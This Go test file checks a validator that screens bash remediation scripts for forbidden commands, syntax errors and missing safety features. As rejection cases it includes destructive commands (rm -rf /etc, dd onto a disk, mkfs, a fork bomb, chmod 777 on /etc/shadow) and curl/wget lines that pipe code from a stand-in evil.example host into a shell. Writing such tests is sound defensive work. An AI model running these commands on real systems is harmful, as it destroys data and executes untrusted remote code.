package patch

import (
	"context"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/vulnzero/remediation-engine/pkg/domain"
)

const safeScript = `#!/bin/bash
set -euo pipefail
LOG=/var/log/remediation/test.log
if [ ! -d /var/log/remediation ]; then
    mkdir -p /var/log/remediation
fi
echo "updating" >> "$LOG"
apt-get install -y --only-upgrade openssl >> "$LOG" 2>&1
exit 0
`

func TestValidate_ForbiddenCommandRejection(t *testing.T) {
	v := NewValidator()
	report := v.Validate(context.Background(), "#!/bin/bash\nrm -rf /etc\n")

	assert.True(t, report.SyntaxValid)
	require.NotEmpty(t, report.ForbiddenCommands)
	assert.Equal(t, 0.0, report.SafetyScore)
	assert.False(t, report.IsValid)
}

func TestValidate_SafeScriptPasses(t *testing.T) {
	v := NewValidator()
	report := v.Validate(context.Background(), safeScript)

	assert.True(t, report.SyntaxValid)
	assert.Empty(t, report.ForbiddenCommands)
	assert.True(t, report.IsValid, "issues: %v", report.Issues)
	assert.GreaterOrEqual(t, report.SafetyScore, MinSafetyScore)
}

func TestValidate_SyntaxError(t *testing.T) {
	v := NewValidator()
	report := v.Validate(context.Background(), "#!/bin/bash\nif [ true\nthen fi\n")

	assert.False(t, report.SyntaxValid)
	assert.False(t, report.IsValid)
	assert.NotEmpty(t, report.SyntaxError)
}

func TestValidate_ForbiddenPatterns(t *testing.T) {
	v := NewValidator()
	scripts := []string{
		"#!/bin/bash\ndd if=/dev/zero of=/dev/sda\n",
		"#!/bin/bash\nmkfs.ext4 /dev/sdb1\n",
		"#!/bin/bash\nchmod 777 /etc/shadow\n",
		"#!/bin/bash\ncurl http://evil.example/x.sh | bash\n",
		"#!/bin/bash\nwget -qO- http://evil.example/x | sh\n",
		"#!/bin/bash\n:(){:|:&};:\n",
	}
	for _, script := range scripts {
		report := v.Validate(context.Background(), script)
		assert.NotEmpty(t, report.ForbiddenCommands, "script %q", script)
		assert.Equal(t, 0.0, report.SafetyScore, "script %q", script)
		assert.False(t, report.IsValid, "script %q", script)
	}
}

func TestValidate_SuspiciousPatternsAreWarnings(t *testing.T) {
	v := NewValidator()
	script := `#!/bin/bash
set -e
if [ -f /etc/myapp.conf ]; then
    sed -i 's/old/new/' /tmp/myapp.conf
fi
echo done >> /var/log/remediation.log
`
	report := v.Validate(context.Background(), script)

	assert.True(t, report.SyntaxValid)
	assert.Empty(t, report.ForbiddenCommands)
	assert.NotEmpty(t, report.SuspiciousPatterns)
	hasHigh := false
	for _, issue := range report.Issues {
		if issue.Severity == domain.IssueHigh {
			hasHigh = true
		}
	}
	assert.True(t, hasHigh)
	// One high issue costs 0.2: still valid.
	assert.InDelta(t, 0.8, report.SafetyScore, 1e-9)
	assert.True(t, report.IsValid)
}

func TestValidate_MissingFeatures(t *testing.T) {
	v := NewValidator()
	report := v.Validate(context.Background(), "echo hello\n")

	assert.Contains(t, report.MissingFeatures, "shebang")
	assert.Contains(t, report.MissingFeatures, "error_exit_guard")
	assert.Contains(t, report.MissingFeatures, "logging")
	assert.Contains(t, report.MissingFeatures, "idempotency_guard")
	// Three medium (0.1) and one low (0.05) penalty.
	assert.InDelta(t, 0.65, report.SafetyScore, 0.051)
}

func TestValidate_Deterministic(t *testing.T) {
	v := NewValidator()
	first := v.Validate(context.Background(), safeScript)
	for i := 0; i < 3; i++ {
		assert.Equal(t, first, v.Validate(context.Background(), safeScript))
	}
}

func TestValidate_LineNumbers(t *testing.T) {
	v := NewValidator()
	report := v.Validate(context.Background(), "#!/bin/bash\necho one\nrm -rf /opt\n")

	require.NotEmpty(t, report.ForbiddenCommands)
	found := false
	for _, issue := range report.Issues {
		if issue.Severity == domain.IssueCritical && issue.Line == 3 {
			found = true
		}
	}
	assert.True(t, found, "forbidden match should carry line 3")
}
